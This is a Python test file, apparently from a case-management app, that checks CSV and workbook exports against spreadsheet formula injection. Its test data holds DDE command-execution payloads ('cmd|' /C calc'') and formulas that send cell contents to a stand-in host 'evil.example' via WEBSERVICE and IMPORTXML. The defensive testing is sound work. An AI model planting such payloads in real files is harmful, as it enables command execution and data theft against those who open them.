"""No file that we hand out runs anything: whatever people typed, a spreadsheet shows it as words."""

import ast
import csv
import io
import re
import zipfile
from collections.abc import Callable
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from qa_app.domain.caseload import Handling, ImportFault, PlanType
from qa_app.domain.caseload_comparison import CaseStanding, ChangedCase
from qa_app.domain.export_columns import Column
from qa_app.exchange.case_action_files import case_action_csv, case_action_workbook
from qa_app.exchange.case_flags.template import FlagRow, flags_workbook
from qa_app.exchange.changed_cases import changed_cases_csv
from qa_app.exchange.fault_list import fault_csv, fault_workbook, inert
from qa_app.exchange.form_export_files import export_csv, export_workbook
from qa_app.exchange.history_files import history_csv

EXCHANGE = Path(__file__).resolve().parents[2] / "qa_app" / "exchange"
ATTACKS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '=HYPERLINK("http://evil.example","look")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    '",=1+1,"',
    '"\r\n=1+1',
    "http://evil.example/",
    "mailto:x@evil.example",
    "{=1+1}",
    "'=1+1",
]
STARTS = "=+-@＝＋－＠\t\r\n"


def runs(cell: str) -> bool:
    """Whether a spreadsheet would take a cell of a CSV file for a formula."""
    seen = cell.lstrip(" \u00a0")
    is_number = re.fullmatch(r"[+-]?\d+(\.\d+)?", seen) is not None
    return seen.startswith(tuple(STARTS)) and not is_number


def fault(words: str) -> ImportFault:
    return ImportFault("date_as_text", Handling.NORMALISE, words, 3, 7, "D", words, words, words)


def case(words: str) -> ChangedCase:
    standing = CaseStanding(PlanType.CHILD_IN_NEED, words, words)
    return ChangedCase(words, standing, standing)


COLUMN = Column("answer", "Answer")
CSV_FILES: dict[str, Callable[[str], bytes]] = {
    "faults": lambda words: fault_csv([fault(words)]),
    "changed cases": lambda words: changed_cases_csv([case(words)]),
    "actions for children": lambda words: case_action_csv([[words] * 16]),
    "history": lambda words: history_csv(["When"], [[words, words]]),
    "reviews": lambda words: export_csv([Column("answer", words)], [{"answer": words}]),
}
WORKBOOKS: dict[str, Callable[[str], bytes]] = {
    "actions for children": lambda words: case_action_workbook([[words] * 16], words),
    "faults": lambda words: fault_workbook([fault(words)], date(2026, 11, 24)),
    "reviews": lambda words: export_workbook([Column("answer", words)], [{"answer": words}], words),
    "case flags": lambda words: flags_workbook(
        [FlagRow(words, words, date(2026, 11, 1), None, words, words, words)], [(words, words)]
    ),
}


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("file", CSV_FILES)
def test_no_cell_of_a_csv_file_is_a_formula(file: str, attack: str) -> None:
    content = CSV_FILES[file](attack).decode("utf-8-sig")
    cells = [cell for line in csv.reader(io.StringIO(content, newline="")) for cell in line]
    assert any(attack in cell for cell in cells), "what was typed is kept, to the letter"
    assert not [cell for cell in cells if runs(cell)]


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("file", WORKBOOKS)
def test_no_cell_of_a_workbook_is_a_formula_or_a_link(file: str, attack: str) -> None:
    with zipfile.ZipFile(io.BytesIO(WORKBOOKS[file](attack))) as packed:
        for name in packed.namelist():
            text = packed.read(name).decode("utf-8")
            assert "<f>" not in text
            assert "<hyperlink" not in text
            assert "TargetMode=" not in text
            assert "externalLink" not in name


@given(st.text(max_size=40))
def test_no_words_become_a_formula_and_none_are_lost(words: str) -> None:
    made = inert(words)
    assert not made.lstrip(" \u00a0").startswith(tuple(STARTS))
    assert made.removeprefix("'") == words or made == words


def writers() -> list[Path]:
    """The modules that write spreadsheets."""
    return [
        path
        for path in sorted(EXCHANGE.rglob("*.py"))
        if "xlsxwriter" in path.read_text(encoding="utf-8")
        or "csv.writer" in path.read_text(encoding="utf-8")
    ]


@pytest.mark.parametrize("path", writers(), ids=lambda path: path.name)
def test_whoever_writes_a_spreadsheet_writes_words(path: Path) -> None:
    text = path.read_text(encoding="utf-8")
    called = {
        node.func.attr
        for node in ast.walk(ast.parse(text))
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
    }
    assert not called & {"write_formula", "write_url", "write_array_formula", "write_row", "write_column"}
    if "Workbook(" in text:
        assert '"strings_to_formulas": False' in text
        assert '"strings_to_urls": False' in text
    if "csv.writer" in text:
        assert "inert" in text


def test_the_writers_are_found() -> None:
    assert len(writers()) >= 5
